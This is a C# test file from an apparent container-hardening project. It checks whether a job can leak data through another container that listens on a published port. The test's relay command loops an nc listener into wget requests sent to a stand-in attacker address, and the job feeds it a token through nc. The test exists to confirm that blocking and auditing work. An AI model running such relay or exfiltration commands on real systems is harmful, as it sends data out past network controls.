using Sallyport.Docker.Tests.Agent;
using Sallyport.Docker.Tests.Machine;
using Sallyport.Lab;

namespace Sallyport.Docker.Tests;

/// <summary>
/// HARDENING rule 6: a port of the machine behind which somebody else's container listens, there before the job. What that
/// container sends is its own, and so it would carry out whatever the job tells it.
/// </summary>
public sealed class PublishedPortTests(ContainerLab lab)
{
    private const string Port = "17070";

    /// <summary>Calls the attacker for whoever sends it a line.</summary>
    private const string Relay =
        $"while :; do nc -l -p {Port} | {{ read -r line; {Destination.Wget} http://{LabAddresses.Attacker}/$line; }}; done";

    [Theory]
    [InlineData(LabMode.Off)]
    [InlineData(LabMode.Audit)]
    [InlineData(LabMode.Block)]
    public async Task Somebody_elses_container_behind_a_published_port(LabMode mode)
    {
        string container = await lab.OutsideAsync(
            "docker", "run", "--detach", "--init", "--publish", $"{Port}:{Port}", BaseImage.Name, "sh", "-c", Relay);
        try
        {
            string text = Destination.NewToken();
            JobRun job = await lab.JobAsync(
                mode, ["sh", "-c", $"for i in 1 2 3 4 5; do echo {text} | busybox nc -w 2 127.0.0.1 {Port} || :; sleep 0.3; done"]);

            Assert.True(job.Saw(text) == (mode != LabMode.Block), $"{mode}: {(job.Saw(text) ? "arrived" : "did not arrive")}");
            if (mode != LabMode.Off)
            {
                Assert.Contains(job.Report.Connections, row => row is { Address: "127.0.0.1", Reason: "helper" }
                    && row.Verdict == (mode == LabMode.Block ? "refused" : "observed"));
            }
        }
        finally
        {
            await lab.OutsideAsync("docker", "rm", "--force", container);
        }
    }
}
